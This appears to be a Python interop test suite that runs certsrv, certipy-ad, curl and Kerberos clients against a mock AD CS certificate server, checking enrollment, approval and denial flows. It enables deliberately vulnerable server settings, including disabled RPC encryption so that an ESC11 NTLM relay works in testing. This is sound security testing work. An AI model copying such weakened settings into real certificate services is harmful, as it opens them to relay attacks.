#!/usr/bin/env python3
"""Interop suite: real third-party certsrv clients against `adcs-harness serve`.

Usage:
    python run.py --bin PATH_TO_adcs-harness [--only NAME]... [--list] [--verbose]

Starts one server per (mode, transport) combination -- enterprise/standalone x
https/http -- and drives it with:

  * certsrv 2.1.1 (magnuswatn/certsrv), auth_method "basic" and "ntlm";
  * certipy-ad 4.8.2 `req -web` (NTLM through requests-ntlm);
  * curl --ntlm, read the way the bash clients read the pages (when installed);
  * pyspnego's SPNEGO carrying NTLM under Negotiate, mechListMICs checked;
  * certipy-ad 4.8.2 and 5.1.0 `req` over DCE/RPC (MS-ICPR at packet
    privacy, through the endpoint mapper on port 135; servers run with --rpc
    when run as root), and impacket 0.13.1's ntlmrelayx relaying curl's
    NTLM login to it (ESC11), and acme2certifier's ms_icpr CA handler
    (both in a second venv);
  * Kerberos under Negotiate against the site's MIT KDC (servers run with
    --kerberos where krb5-kdc is installed): kinit, curl --negotiate,
    requests with requests-gssapi, and certsrv on a requests-gssapi session.

Prints one line per case (`PASS name`, `FAIL name: reason`, `SKIP name: reason`)
and finally `interop: N passed, M failed, K skipped`; exits 1 if any case failed.

`--only NAME` (repeatable) keeps the cases whose full name equals NAME, contains
NAME as a substring, or matches NAME as a shell glob.

Needs the packages in requirements.txt (run.sh makes the venv).
"""

import argparse
import base64
import fnmatch
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import traceback
import warnings

import requests
import certsrv
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import pkcs12, pkcs7
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

# The users every server is started with (passed as --user on its command line).
ALICE = ("CONTOSO\\alice", "Alice-Passw0rd")
BOB = ("CONTOSO\\bob", "Bob-Passw0rd")
WRONG_PASSWORD = "Not-The-Passw0rd"
DNS_DOMAIN = "contoso.test"
CA_HOST = "ca01.contoso.test"  # in the HTTPS server certificate's SANs

MODES = ("enterprise", "standalone")
TRANSPORTS = ("https", "http")

READY_TIMEOUT = 30.0  # seconds to wait for the ready file
CLIENT_TIMEOUT = 120  # seconds for one certipy run

UPN_OID = x509.ObjectIdentifier("1.3.6.1.4.1.311.20.2.3")

VERBOSE = False


class Skip(Exception):
    """The case does not apply here; the message says why."""


class Fail(AssertionError):
    """The case failed; the message says why."""


def check(cond, msg):
    if not cond:
        raise Fail(msg)


def log(msg):
    if VERBOSE:
        print("  | " + msg.replace("\n", "\n  | "), file=sys.stderr, flush=True)


# --------------------------------------------------------------------------
# Server management
# --------------------------------------------------------------------------


# `--container IMAGE`: serve runs in this image instead (podman, on the
# host's network, the server's folder mounted at the same path, so the
# ready file's paths and ports hold as they are).
CONTAINER = None
CONTAINER_KERBEROS = False


def container_name(folder):
    return "adcs-interop-" + os.path.basename(folder)


def launcher(binary, folder):
    """How to start `adcs-harness` for a server whose files are in `folder`."""
    if CONTAINER:
        return ["podman", "run", "--rm", "--name", container_name(folder), "--no-healthcheck",
                "--runtime", "runc", "--network", "host",
                "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1024:1024",
                "-v", "%s:%s" % (folder, folder), CONTAINER]
    return command(binary)


def command(binary):
    """How to run `binary`: directly, or under Wine for a Windows build
    (`.exe`) on another OS."""
    if binary.lower().endswith(".exe") and os.name != "nt":
        return ["wine", binary]
    return [binary]


def local_path(path):
    """A path from the ready file as this OS names it: a Windows build under
    Wine writes `Z:\\...` paths, which `winepath -u` turns back."""
    if os.name == "nt" or not re.match(r"^[A-Za-z]:[\\/]", path):
        return path
    out = subprocess.run(["winepath", "-u", path], capture_output=True, text=True, timeout=60)
    return out.stdout.strip() or path


class Server:
    """One `adcs-harness serve` process and its ready-file facts."""

    def __init__(self, binary, mode, transport):
        self.binary = binary
        self.mode = mode
        self.transport = transport
        self.dir = tempfile.mkdtemp(prefix="adcs-interop-%s-%s-" % (mode, transport))
        self.ready_file = os.path.join(self.dir, "ready.json")
        self.log_path = os.path.join(self.dir, "server.log")
        self.proc = None
        self.info = None

    # -- lifecycle --------------------------------------------------------

    @property
    def ca_mode(self):
        """The CA's mode: the lab is an enterprise CA."""
        return "enterprise" if self.mode in ("lab", "hardened") else self.mode

    def start(self):
        cmd = launcher(self.binary, self.dir) + ["serve", "--mode", self.ca_mode, "--listen", "127.0.0.1:0"]
        if self.mode == "lab":
            cmd += ["--vulnerable", "all"]
        if self.mode == "hardened":
            cmd += ["--hardened"]
        if self.transport == "http":
            cmd.append("--http")
        # NDES with its own capability list plus AES: strongSwan 5.9.8's
        # `pki --scep` tests the AES bit when it means 3DES (and refuses
        # 3DES against NDES's list); AES-CBC is decrypted either way.
        ndes_toml = os.path.join(self.dir, "ndes.toml")
        with open(ndes_toml, "w", encoding="utf-8") as f:
            f.write('[ndes]\ncapabilities = ["Renewal", "SHA-512", "SHA-256", "SHA-1", "DES3", "AES"]\n')
        cmd += ["--seed", "7", "--config", ndes_toml, "--ready-file", self.ready_file]
        if kerberos_possible(self.binary):
            cmd.append("--kerberos")
        # The directory on 389 and 636 where they can be bound (root).
        cmd.append("--ldap" if ldap_possible(self.binary) else "--no-ldap")
        cmd.append("--dns" if ldap_possible(self.binary) else "--no-dns")
        if not rpc_possible(self.binary):
            cmd += ["--no-rpc", "--no-smb"]
        else:
            cmd += ["--rpc", "--smb"]
            if self.transport == "https":
                # ESC11 on the HTTPS servers (a relay gets in), the
                # patched default on the HTTP ones.
                with open(ndes_toml, "a", encoding="utf-8") as f:
                    f.write("[rpc]\nenforce_encryption = false\n")
        for user, password in (ALICE, BOB):
            cmd += ["--user", "%s:%s" % (user, password)]
        log("starting: %s" % " ".join(cmd))
        self._log = open(self.log_path, "wb")
        self.proc = subprocess.Popen(
            cmd,
            cwd=self.dir,
            stdin=subprocess.DEVNULL,
            stdout=self._log,
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + READY_TIMEOUT
        while True:
            rc = self.proc.poll()
            if rc is not None:
                raise RuntimeError(
                    "server exited with status %s before writing the ready file; log:\n%s"
                    % (rc, self.log_tail())
                )
            if os.path.exists(self.ready_file):
                try:
                    with open(self.ready_file, encoding="utf-8") as f:
                        self.info = json.load(f)
                    break
                except (ValueError, OSError):
                    pass  # still being written
            if time.monotonic() > deadline:
                self.stop()
                raise RuntimeError(
                    "no ready file after %.0f s; log:\n%s" % (READY_TIMEOUT, self.log_tail())
                )
            time.sleep(0.05)
        for key in ("certsrv_url", "scheme", "host", "port", "mode", "ca_cert", "root_cert"):
            if key not in self.info:
                raise RuntimeError("ready file lacks %r: %r" % (key, self.info))
        for key in ("ca_cert", "root_cert"):
            self.info[key] = local_path(self.info[key])
        if self.info["scheme"] != self.transport or self.info["mode"] != self.ca_mode:
            raise RuntimeError(
                "ready file says %s/%s, expected %s/%s"
                % (self.info["mode"], self.info["scheme"], self.mode, self.transport)
            )
        log("ready: %s" % json.dumps(self.info))

    def stop(self):
        if CONTAINER and self.proc is not None:
            # The container, not just podman's client, must be gone before
            # the next server takes the same ports.
            subprocess.run(["podman", "rm", "-f", "-t", "5", container_name(self.dir)],
                           capture_output=True, timeout=120)
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        if getattr(self, "_log", None):
            self._log.close()
            self._log = None

    def cleanup(self):
        shutil.rmtree(self.dir, ignore_errors=True)

    def log_tail(self, n=30):
        try:
            with open(self.log_path, "rb") as f:
                lines = f.read().decode("utf-8", "replace").splitlines()
            return "\n".join(lines[-n:]) or "(empty log)"
        except OSError:
            return "(no log)"

    def alive(self):
        return self.proc is not None and self.proc.poll() is None

    # -- facts -------------------------------------------------------------

    @property
    def host(self):
        return self.info["host"]

    @property
    def port(self):
        return int(self.info["port"])

    @property
    def scheme(self):
        return self.info["scheme"]

    def ca_cert(self):
        with open(self.info["ca_cert"], "rb") as f:
            return x509.load_pem_x509_certificate(f.read())

    def root_cert(self):
        with open(self.info["root_cert"], "rb") as f:
            return x509.load_pem_x509_certificate(f.read())

    def ca_name(self):
        cns = self.ca_cert().subject.get_attributes_for_oid(NameOID.COMMON_NAME)
        return cns[0].value if cns else "contoso-TEST-CA"

    # -- CA officer actions through the CLI ---------------------------------

    def ca(self, *args):
        cmd = command(self.binary) + ["ca", "--ready-file", self.ready_file] + [str(a) for a in args]
        log("officer: %s" % " ".join(cmd))
        return subprocess.run(cmd, capture_output=True, text=True, timeout=60)

    def issue(self, req_id):
        r = self.ca("issue", req_id)
        check(r.returncode == 0, "`ca issue %s` exited %s: %s" % (req_id, r.returncode, (r.stderr or r.stdout).strip()))

    def deny(self, req_id):
        r = self.ca("deny", req_id)
        check(r.returncode == 0, "`ca deny %s` exited %s: %s" % (req_id, r.returncode, (r.stderr or r.stdout).strip()))

    def pending_listing(self):
        r = self.ca("pending")
        check(r.returncode == 0, "`ca pending` exited %s: %s" % (r.returncode, (r.stderr or r.stdout).strip()))
        return r.stdout


def listed(req_id, text):
    return re.search(r"(?<![0-9])%s(?![0-9])" % re.escape(str(req_id)), text) is not None


# --------------------------------------------------------------------------
# Crypto helpers
# --------------------------------------------------------------------------


def make_csr(cn, dns=()):
    """A fresh RSA-2048 key and a PEM PKCS#10 request (LF line ends)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    builder = x509.CertificateSigningRequestBuilder().subject_name(
        x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])
    )
    if dns:
        builder = builder.add_extension(
            x509.SubjectAlternativeName([x509.DNSName(d) for d in dns]), critical=False
        )
    csr = builder.sign(key, hashes.SHA256())
    return key, csr.public_bytes(serialization.Encoding.PEM).decode("ascii")


def same_key(a, b):
    return a.public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    ) == b.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)


def cn_of(name):
    attrs = name.get_attributes_for_oid(NameOID.COMMON_NAME)
    return attrs[0].value if attrs else None


def san_dns(cert):
    try:
        ext = cert.extensions.get_extension_for_class(x509.SubjectAlternativeName)
    except x509.ExtensionNotFound:
        return []
    return ext.value.get_values_for_type(x509.DNSName)


def san_upns(cert):
    try:
        ext = cert.extensions.get_extension_for_class(x509.SubjectAlternativeName)
    except x509.ExtensionNotFound:
        return []
    out = []
    for on in ext.value.get_values_for_type(x509.OtherName):
        if on.type_id == UPN_OID:
            v = on.value  # DER UTF8String
            if len(v) >= 2 and v[0] == 0x0C:
                n, off = v[1], 2
                if n & 0x80:
                    nb = n & 0x7F
                    n, off = int.from_bytes(v[2 : 2 + nb], "big"), 2 + nb
                out.append(v[off : off + n].decode("utf-8", "replace"))
    return out


def ekus(cert):
    try:
        return list(cert.extensions.get_extension_for_class(x509.ExtendedKeyUsage).value)
    except x509.ExtensionNotFound:
        return []


def check_issued_by(cert, ca):
    check(cert.issuer == ca.subject, "issuer %s != CA subject %s" % (cert.issuer.rfc4514_string(), ca.subject.rfc4514_string()))
    if hasattr(cert, "verify_directly_issued_by"):
        try:
            cert.verify_directly_issued_by(ca)
        except Exception as e:  # noqa: BLE001
            raise Fail("signature does not verify under the CA certificate: %s" % e)


def load_pem_cert(data, what):
    check(isinstance(data, bytes), "%s: expected bytes, got %r" % (what, type(data)))
    check(b"-----BEGIN CERTIFICATE-----" in data, "%s: no PEM certificate in %r" % (what, data[:120]))
    return x509.load_pem_x509_certificate(data)


def check_webserver_cert(cert, key, cn, dns, ca):
    check(same_key(cert.public_key(), key.public_key()), "certificate public key is not the request's")
    check(cn_of(cert.subject) == cn, "subject CN %r, expected %r (subject %s)" % (cn_of(cert.subject), cn, cert.subject.rfc4514_string()))
    for d in dns:
        check(d in san_dns(cert), "SAN dNSName %r missing; SAN DNS = %r" % (d, san_dns(cert)))
    check_issued_by(cert, ca)


# Real AD CS downloads list the chain leaf first, which is not DER's sorted
# SET OF order (shared/reference/p7b shows the same); cryptography then
# falls back to BER with a warning. The mock does as AD CS does.
warnings.filterwarnings("ignore", message="PKCS#7 certificates could not be parsed as DER")


def p7b_certs(data, encoding):
    """Certificates of a certnew.p7b body; b64 is PKCS#7 in CERTIFICATE armour."""
    if encoding == "b64":
        check(b"-----BEGIN CERTIFICATE-----" in data, "b64 chain lacks the CERTIFICATE armour: %r" % data[:80])
        m = re.search(rb"-----BEGIN CERTIFICATE-----(.*?)-----END CERTIFICATE-----", data, re.S)
        check(m is not None, "b64 chain: unterminated armour")
        der = base64.b64decode(b"".join(m.group(1).split()))
    else:
        check(b"-----BEGIN" not in data, "bin chain contains a PEM marker")
        der = data
    try:
        return pkcs7.load_der_pkcs7_certificates(der)
    except Exception as e:  # noqa: BLE001
        raise Fail("chain is not a DER PKCS#7 with certificates: %s" % e)


# --------------------------------------------------------------------------
# Case registry
# --------------------------------------------------------------------------

CASES = []  # (name, fn, mode, transport)


def case(name, modes=MODES, transports=TRANSPORTS):
    def deco(fn):
        for m in modes:
            for t in transports:
                CASES.append(("%s[%s-%s]" % (name, m, t), fn, m, t))
        return fn

    return deco


class Ctx:
    def __init__(self, server, workdir):
        self.server = server
        self.workdir = workdir  # empty temporary directory for this case


# --------------------------------------------------------------------------
# certsrv 2.1.1 (magnuswatn/certsrv)
#
# certsrv builds every URL as "https://{server}/certsrv/..." -- the scheme is
# hard-coded, so it cannot talk plain HTTP at all. `server` is pasted in
# verbatim, so "127.0.0.1:PORT" reaches a non-standard port. Its cases are
# therefore registered for the HTTPS servers only. TLS is verified with
# cafile=root_cert (the server certificate's SANs include 127.0.0.1).
# --------------------------------------------------------------------------


def mw(ctx, auth, user=ALICE, password=None):
    s = ctx.server
    return certsrv.Certsrv(
        "%s:%d" % (s.host, s.port),
        user[0],
        user[1] if password is None else password,
        auth_method=auth,
        cafile=s.info["root_cert"],
        timeout=30,
    )


def mw_pending(client, csr, template):
    try:
        got = client.get_cert(csr, template)
    except certsrv.CertificatePendingException as e:
        check(re.fullmatch(r"\d+", str(e.req_id)) is not None, "pending req_id %r is not a number" % e.req_id)
        return int(e.req_id)
    raise Fail("expected CertificatePendingException, got a certificate (%d bytes)" % len(got))


def mw_expect_denied_fetch(client, req_id):
    """get_existing_cert of a denied request raises with the `Denied by` message."""
    try:
        client.get_existing_cert(req_id)
    except certsrv.CouldNotRetrieveCertificateException as e:
        check("Denied by" in str(e), "denied fetch message %r lacks 'Denied by'" % str(e))
        return
    raise Fail("get_existing_cert(%d) returned a certificate after denial" % req_id)


def mw_cases(auth):
    p = "certsrv-%s." % auth
    https = ("https",)

    @case(p + "check_credentials", transports=https)
    def _(ctx):
        check(mw(ctx, auth).check_credentials() is True, "check_credentials() is not True with the right password")
        check(mw(ctx, auth, user=BOB).check_credentials() is True, "check_credentials() is not True for bob")

    @case(p + "check_credentials_wrong_password", transports=https)
    def _(ctx):
        r = mw(ctx, auth, password=WRONG_PASSWORD).check_credentials()
        check(r is False, "check_credentials() returned %r with a wrong password" % r)

    @case(p + "check_credentials_unknown_user", transports=https)
    def _(ctx):
        r = mw(ctx, auth, user=("CONTOSO\\mallory", "Mallory-Passw0rd")).check_credentials()
        check(r is False, "check_credentials() returned %r for an unknown user" % r)

    @case(p + "get_ca_cert_b64", transports=https)
    def _(ctx):
        data = mw(ctx, auth).get_ca_cert("b64")
        cert = load_pem_cert(data, "get_ca_cert(b64)")
        check(cert == ctx.server.ca_cert(), "CA certificate differs from the ready file's ca_cert")

    @case(p + "get_ca_cert_der", transports=https)
    def _(ctx):
        data = mw(ctx, auth).get_ca_cert("bin")
        check(b"-----BEGIN" not in data, "DER CA certificate contains a PEM marker")
        cert = x509.load_der_x509_certificate(data)
        check(cert == ctx.server.ca_cert(), "CA certificate differs from the ready file's ca_cert")

    def chain_case(encoding):
        def _(ctx):
            data = mw(ctx, auth).get_chain(encoding)
            certs = p7b_certs(data, encoding)
            ca, root = ctx.server.ca_cert(), ctx.server.root_cert()
            check(ca in certs, "chain (%d certs) lacks the CA certificate" % len(certs))
            check(root in certs, "chain (%d certs) lacks the root certificate" % len(certs))
            check(certs[0] == ca, "chain's first certificate is not the CA certificate")

        return _

    case(p + "get_chain_b64", transports=https)(chain_case("b64"))
    case(p + "get_chain_der", transports=https)(chain_case("bin"))

    @case(p + "get_cert_wrong_password", transports=https)
    def _(ctx):
        _key, csr = make_csr("wrongpw.contoso.test")
        try:
            mw(ctx, auth, password=WRONG_PASSWORD).get_cert(csr, "WebServer")
        except requests.exceptions.HTTPError as e:
            check(e.response is not None and e.response.status_code == 401, "HTTP error %r, expected 401" % (e.response.status_code if e.response is not None else None))
            check(e.response.reason == "Unauthorized", "reason phrase %r, expected 'Unauthorized'" % e.response.reason)
            return
        except Exception as e:  # noqa: BLE001
            raise Fail("expected requests HTTPError 401, got %s: %s" % (type(e).__name__, e))
        raise Fail("get_cert succeeded with a wrong password")

    @case(p + "get_existing_cert_unknown_id", transports=https)
    def _(ctx):
        try:
            mw(ctx, auth).get_existing_cert(987654)
        except certsrv.CouldNotRetrieveCertificateException:
            return
        raise Fail("get_existing_cert(987654) returned a certificate")

    # ---- enterprise ---------------------------------------------------------

    @case(p + "get_cert_webserver", modes=("enterprise",), transports=https)
    def _(ctx):
        cn = "web-%s.contoso.test" % auth
        key, csr = make_csr(cn, dns=[cn])
        data = mw(ctx, auth).get_cert(csr, "WebServer")
        cert = load_pem_cert(data, "get_cert(WebServer)")
        check_webserver_cert(cert, key, cn, [cn], ctx.server.ca_cert())
        check(ExtendedKeyUsageOID.SERVER_AUTH in ekus(cert), "WebServer certificate lacks the serverAuth EKU")

    @case(p + "get_cert_webserver_der", modes=("enterprise",), transports=https)
    def _(ctx):
        cn = "webder-%s.contoso.test" % auth
        key, csr = make_csr(cn)
        data = mw(ctx, auth).get_cert(csr, "WebServer", encoding="bin")
        check(b"-----BEGIN" not in data, "DER certificate contains a PEM marker")
        cert = x509.load_der_x509_certificate(data)
        check_webserver_cert(cert, key, cn, [], ctx.server.ca_cert())

    @case(p + "get_cert_san_attribute", modes=("enterprise",), transports=https)
    def _(ctx):
        # Extra CRLF-terminated attributes after CertificateTemplate (MW's own
        # test sends lowercase "san:"). Whether the SAN is honoured depends on
        # EDITF_ATTRIBUTESUBJECTALTNAME2 (off by default, as on a real CA), so
        # accept either no SAN or exactly the requested one -- nothing else.
        cn = "attr-%s.contoso.test" % auth
        alt = "alt-%s.contoso.test" % auth
        key, csr = make_csr(cn)
        data = mw(ctx, auth).get_cert(csr, "WebServer", attributes="san:dns=%s\r\n" % alt)
        cert = load_pem_cert(data, "get_cert(WebServer, san:)")
        check_webserver_cert(cert, key, cn, [], ctx.server.ca_cert())
        check(san_dns(cert) in ([], [alt]), "SAN DNS %r, expected none or [%r]" % (san_dns(cert), alt))

    @case(p + "get_cert_operations_manager", modes=("enterprise",), transports=https)
    def _(ctx):
        cn = "scom-%s.contoso.test" % auth
        key, csr = make_csr(cn)
        data = mw(ctx, auth).get_cert(csr, "OperationsManager")
        cert = load_pem_cert(data, "get_cert(OperationsManager)")
        check_webserver_cert(cert, key, cn, [], ctx.server.ca_cert())
        e = ekus(cert)
        check(ExtendedKeyUsageOID.SERVER_AUTH in e and ExtendedKeyUsageOID.CLIENT_AUTH in e, "OperationsManager EKUs %r lack serverAuth+clientAuth" % [o.dotted_string for o in e])

    @case(p + "get_cert_user", modes=("enterprise",), transports=https)
    def _(ctx):
        # User template: subject and UPN come from the account, not the request.
        key, csr = make_csr("ignored-by-user-template")
        data = mw(ctx, auth, user=BOB).get_cert(csr, "User")
        cert = load_pem_cert(data, "get_cert(User)")
        check(same_key(cert.public_key(), key.public_key()), "certificate public key is not the request's")
        upns = [u.lower() for u in san_upns(cert)]
        check("bob@contoso.test" in upns, "UPN SAN %r, expected bob@contoso.test" % san_upns(cert))
        # AD-style subject CN=bob,CN=Users,DC=contoso,DC=test: in DER order the
        # most specific RDN comes last.
        cns = [a.value for a in cert.subject.get_attributes_for_oid(NameOID.COMMON_NAME)]
        check(cns and cns[-1].lower() == "bob", "subject %s, expected CN=bob,..." % cert.subject.rfc4514_string())
        check(ExtendedKeyUsageOID.CLIENT_AUTH in ekus(cert), "User certificate lacks clientAuth")
        check_issued_by(cert, ctx.server.ca_cert())

    @case(p + "unknown_template_denied", modes=("enterprise",), transports=https)
    def _(ctx):
        _key, csr = make_csr("nosuch-%s.contoso.test" % auth)
        try:
            mw(ctx, auth).get_cert(csr, "NoSuchTemplate")
        except certsrv.RequestDeniedException as e:
            msg = str(e)
            check("template that is not supported" in msg, "denial message %r lacks 'template that is not supported'" % msg)
            check("0x80094800" in msg, "denial message %r lacks 0x80094800" % msg)
            check("NoSuchTemplate" in msg, "denial message %r does not name the template" % msg)
            return
        except certsrv.CertificatePendingException as e:
            raise Fail("unknown template went pending (req %s) instead of being denied" % e.req_id)
        raise Fail("unknown template was issued")

    @case(p + "approval_pending_issue", modes=("enterprise",), transports=https)
    def _(ctx):
        cn = "approve-%s.contoso.test" % auth
        key, csr = make_csr(cn, dns=[cn])
        client = mw(ctx, auth)
        req_id = mw_pending(client, csr, "WebServerApproval")
        check(listed(req_id, ctx.server.pending_listing()), "`ca pending` does not list request %d" % req_id)
        try:
            client.get_existing_cert(req_id)
            raise Fail("get_existing_cert(%d) returned a certificate before approval" % req_id)
        except certsrv.CouldNotRetrieveCertificateException as e:
            check("Taken Under Submission" in str(e), "pending fetch message %r lacks 'Taken Under Submission'" % str(e))
        ctx.server.issue(req_id)
        data = mw(ctx, auth).get_existing_cert(req_id)  # fresh session, as a later run would
        cert = load_pem_cert(data, "get_existing_cert(%d)" % req_id)
        check_webserver_cert(cert, key, cn, [cn], ctx.server.ca_cert())
        der = client.get_existing_cert(req_id, encoding="bin")
        check(x509.load_der_x509_certificate(der) == cert, "DER and PEM retrievals differ")

    @case(p + "approval_pending_deny", modes=("enterprise",), transports=https)
    def _(ctx):
        _key, csr = make_csr("deny-%s.contoso.test" % auth)
        client = mw(ctx, auth)
        req_id = mw_pending(client, csr, "WebServerApproval")
        ctx.server.deny(req_id)
        mw_expect_denied_fetch(client, req_id)

    # ---- stand-alone --------------------------------------------------------

    @case(p + "standalone_pending_issue", modes=("standalone",), transports=https)
    def _(ctx):
        cn = "sa-%s.contoso.test" % auth
        key, csr = make_csr(cn)
        client = mw(ctx, auth)
        req_id = mw_pending(client, csr, "WebServer")
        check(listed(req_id, ctx.server.pending_listing()), "`ca pending` does not list request %d" % req_id)
        ctx.server.issue(req_id)
        cert = load_pem_cert(client.get_existing_cert(req_id), "get_existing_cert(%d)" % req_id)
        check_webserver_cert(cert, key, cn, [], ctx.server.ca_cert())

    @case(p + "standalone_template_ignored", modes=("standalone",), transports=https)
    def _(ctx):
        _key, csr = make_csr("sa-nosuch-%s.contoso.test" % auth)
        try:
            req_id = mw_pending(mw(ctx, auth), csr, "NoSuchTemplate")
        except certsrv.RequestDeniedException as e:
            raise Fail("stand-alone CA denied a request over its template attribute: %s" % e)
        check(req_id > 0, "bad request id")

    @case(p + "standalone_pending_deny", modes=("standalone",), transports=https)
    def _(ctx):
        _key, csr = make_csr("sa-deny-%s.contoso.test" % auth)
        client = mw(ctx, auth)
        req_id = mw_pending(client, csr, "WebServer")
        ctx.server.deny(req_id)
        mw_expect_denied_fetch(client, req_id)


mw_cases("basic")
mw_cases("ntlm")


# --------------------------------------------------------------------------
# certipy-ad 4.8.2: `certipy req -web`
#
# 4.8.2 has `-scheme http|https` and `-port N`, so any port works over both
# schemes. The command line used (see certipy_cmd):
#
#   certipy req -web -scheme SCHEME -port PORT \
#       -target ca01.contoso.test -target-ip 127.0.0.1 -dc-ip 127.0.0.1 \
#       -u alice@contoso.test -p PASSWORD -ca CA-CN -template T [-dns D] -debug
#
# * -target-ip and -dc-ip avoid all DNS: with them set, Target.from_options
#   resolves nothing (without -dc-ip it looks the domain up over DNS). Web
#   enrollment never touches LDAP or RPC.
# * -target only sets the Host header of the /certsrv/ probe (no port in it).
# * -ca is required by argparse but unused by the web path.
# * NTLM principal sent: "<DOMAIN PART UPPERCASED>\<USER UPPERCASED>", e.g.
#   CONTOSO.TEST\ALICE for alice@contoso.test, CONTOSO\BOB for bob@contoso.
# * No User-Agent header at all; TLS not verified (verify=False); over HTTPS
#   requests-ntlm sends a tls-server-end-point channel binding.
# * certipy exits 0 even on failure, so cases check its output and files.
# * Pending requests make it prompt "Would you like to save the private key?
#   (y/N)" on stdin; "y" writes <ID>.key in the cwd, which `-retrieve ID`
#   later combines into a .pfx.
# * The .pfx is named from the certificate: UPN user part, or the first label
#   of a dNSName (joined with "_" when several), lowercased; else the -u user.
# --------------------------------------------------------------------------


def certipy_exe():
    here = os.path.dirname(os.path.abspath(sys.executable))
    for name in ("certipy", "certipy.exe"):
        p = os.path.join(here, name)
        if os.path.exists(p):
            return [p]
    found = shutil.which("certipy")
    if found:
        return [found]
    return [sys.executable, "-m", "certipy.entry"]


def certipy_cmd(ctx, template, user="alice@contoso.test", password=ALICE[1], extra=()):
    s = ctx.server
    return certipy_exe() + [
        "req", "-web",
        "-scheme", s.scheme,
        "-port", str(s.port),
        "-target", CA_HOST,
        "-target-ip", s.host,
        "-dc-ip", s.host,
        "-u", user,
        "-p", password,
        "-ca", s.ca_name(),
        "-template", template,
        "-timeout", "15",
        "-debug",
    ] + list(extra)


def run_certipy(ctx, cmd, stdin_text=""):
    log("certipy: %s" % " ".join(cmd))
    try:
        r = subprocess.run(
            cmd,
            cwd=ctx.workdir,
            input=stdin_text,
            capture_output=True,
            text=True,
            timeout=CLIENT_TIMEOUT,
        )
    except subprocess.TimeoutExpired:
        raise Fail("certipy timed out after %d s" % CLIENT_TIMEOUT)
    out = r.stdout + "\n" + r.stderr
    log(out)
    return out


def out_tail(out, n=6):
    lines = [l for l in out.splitlines() if l.startswith("[")]
    return " | ".join(lines[-n:]) or out.strip()[-300:]


def expect(out, marker, what=None):
    check(marker in out, "%s: %r not in certipy output: %s" % (what or "certipy", marker, out_tail(out)))


def certipy_request_id(out):
    ids = re.findall(r"Request ID is (\d+)", out)
    check(len(ids) >= 1, "no 'Request ID is N' in certipy output: %s" % out_tail(out))
    return int(ids[-1])


def load_pfx(path):
    with open(path, "rb") as f:
        key, cert, _extra = pkcs12.load_key_and_certificates(f.read(), None)
    check(key is not None and cert is not None, "%s lacks key or certificate" % path)
    check(same_key(cert.public_key(), key.public_key()), "%s: key does not match certificate" % path)
    return key, cert


def files_with(workdir, ext):
    return sorted(f for f in os.listdir(workdir) if f.endswith(ext))


@case("certipy.webserver_issue", modes=("enterprise",))
def _(ctx):
    dns = "web01.contoso.test"
    out = run_certipy(ctx, certipy_cmd(ctx, "WebServer", extra=["-dns", dns]))
    certipy_request_id(out)
    expect(out, "Got certificate with DNS Host Name %r" % dns)
    expect(out, "Saved certificate and private key to 'web01.pfx'")
    path = os.path.join(ctx.workdir, "web01.pfx")
    check(os.path.exists(path), "web01.pfx not written; files: %r" % os.listdir(ctx.workdir))
    _key, cert = load_pfx(path)
    check(dns in san_dns(cert), "pfx certificate SAN DNS %r lacks %s" % (san_dns(cert), dns))
    # certipy's CSR subject is CN=<username capitalised>; WebServer takes it from the request.
    check(cn_of(cert.subject) == "Alice", "subject %s, expected CN=Alice" % cert.subject.rfc4514_string())
    check_issued_by(cert, ctx.server.ca_cert())


@case("certipy.user_template_netbios_domain", modes=("enterprise",))
def _(ctx):
    # -u bob@contoso: NTLM domain "CONTOSO" (NetBIOS) instead of the FQDN.
    out = run_certipy(ctx, certipy_cmd(ctx, "User", user="bob@contoso", password=BOB[1]))
    certipy_request_id(out)
    check(re.search(r"Got certificate with UPN 'bob@contoso\.test'", out, re.I), "no \"Got certificate with UPN 'bob@contoso.test'\" in certipy output: %s" % out_tail(out))
    path = os.path.join(ctx.workdir, "bob.pfx")
    check(os.path.exists(path), "bob.pfx not written; files: %r" % os.listdir(ctx.workdir))
    _key, cert = load_pfx(path)
    check("bob@contoso.test" in [u.lower() for u in san_upns(cert)], "pfx UPN %r" % san_upns(cert))
    check_issued_by(cert, ctx.server.ca_cert())


def certipy_pending_then(ctx, template, approve):
    """Submit, answer 'y' to the key prompt, check pending, then approve or deny."""
    dns = "pend01.contoso.test"
    out = run_certipy(ctx, certipy_cmd(ctx, template, extra=["-dns", dns]), stdin_text="y\n")
    req_id = certipy_request_id(out)
    expect(out, "Certificate request is pending approval", "submit")
    expect(out, "Would you like to save the private key?", "submit")
    expect(out, "Saved private key to %d.key" % req_id, "submit")
    keyfile = os.path.join(ctx.workdir, "%d.key" % req_id)
    check(os.path.exists(keyfile), "%d.key not written" % req_id)
    check(not files_with(ctx.workdir, ".pfx"), "a .pfx appeared for a pending request")
    check(listed(req_id, ctx.server.pending_listing()), "`ca pending` does not list request %d" % req_id)

    # Retrieval while still pending.
    out = run_certipy(ctx, certipy_cmd(ctx, template, extra=["-retrieve", str(req_id)]))
    expect(out, "Retrieving certificate for request ID: %d" % req_id, "retrieve (pending)")
    expect(out, "Certificate request is pending approval", "retrieve (pending)")
    expect(out, "Failed to retrieve certificate", "retrieve (pending)")

    if approve:
        ctx.server.issue(req_id)
        out = run_certipy(ctx, certipy_cmd(ctx, template, extra=["-retrieve", str(req_id)]))
        expect(out, "Loaded private key from '%d.key'" % req_id, "retrieve (issued)")
        expect(out, "Saved certificate and private key to 'pend01.pfx'", "retrieve (issued)")
        with open(keyfile, "rb") as f:
            key = serialization.load_pem_private_key(f.read(), None)
        pkey, cert = load_pfx(os.path.join(ctx.workdir, "pend01.pfx"))
        check(same_key(pkey.public_key(), key.public_key()), "pfx key is not the saved key")
        check(dns in san_dns(cert), "certificate SAN DNS %r lacks %s" % (san_dns(cert), dns))
